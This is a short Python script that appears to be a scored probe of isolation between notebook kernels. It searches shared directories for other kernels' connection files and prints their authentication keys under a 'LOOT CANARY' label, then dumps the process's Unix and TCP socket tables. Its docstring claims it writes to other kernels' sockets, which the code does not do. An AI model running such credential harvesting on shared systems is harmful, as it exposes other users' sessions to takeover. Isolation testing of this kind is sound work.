"""Reads the connection files of other kernels and writes to their sockets.

earns: 0
"""

# %%
import glob
import json
import os

own = os.path.realpath("/run/kernel/kernel.json")
patterns = [
    "/run/**/*.json",
    "/tmp/**/*.json",
    "/scratch/**/*.json",
    os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
    "@HOME@/.local/share/jupyter/runtime/*.json",
]
for pattern in patterns:
    for name in glob.glob(pattern, recursive=True):
        try:
            info = json.load(open(name))
        except (OSError, ValueError):
            continue
        if (
            os.path.realpath(name) != own
            and info.get("key") != json.load(open(own))["key"]
        ):
            print("LO" + "OT", "CANARY", name, info)
for name in ("net/unix", "net/tcp"):
    print(open(f"/proc/self/{name}").read()[:2000])
